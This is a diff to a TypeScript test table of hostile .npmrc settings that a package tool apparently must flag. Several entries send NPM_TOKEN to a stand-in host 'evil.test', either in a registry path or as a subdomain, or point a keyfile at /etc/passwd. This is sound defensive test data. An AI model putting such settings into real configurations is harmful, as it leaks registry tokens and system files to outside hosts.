@@ -127,7 +127,22 @@ const tricks: readonly Trick[] = [
     npmrc: '//evil.test/:certfile=${HOME}/.ssl/cert.pem\n//evil.test/:keyfile=/etc/passwd\n',
     code: 'QM_PROJECT_HOOKS',
   },
-  { what: 'names a token by its usual variable', npmrc: '//127.0.0.1:9/:_authToken=${NPM_TOKEN}\n' },
+  {
+    what: 'names a token by its usual variable, for a host of its own',
+    npmrc: '//127.0.0.1:9/:_authToken=${NPM_TOKEN}\n',
+    code: 'QM_PROJECT_HOOKS',
+  },
+  {
+    what: 'names a registry with such a variable in its path',
+    npmrc: '@corp:registry=http://127.0.0.1:9/${NPM_TOKEN}/\n',
+    code: 'QM_PROJECT_HOOKS',
+  },
+  {
+    what: 'names a registry with such a variable in its host',
+    npmrc: '@corp:registry=http://${NPM_TOKEN}.evil.test/\n',
+    code: 'QM_PROJECT_HOOKS',
+  },
+  { what: 'names a token for the public registry', npmrc: '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n' },
   { what: 'chooses other workspaces', npmrc: 'workspaces=true\nworkspace=elsewhere\n', code: 'QM_MANAGER_FAILED' },
   { what: 'saves nothing', npmrc: 'save=false\nno-save=true\n' },
   { what: 'forces', npmrc: 'force=true\n' },
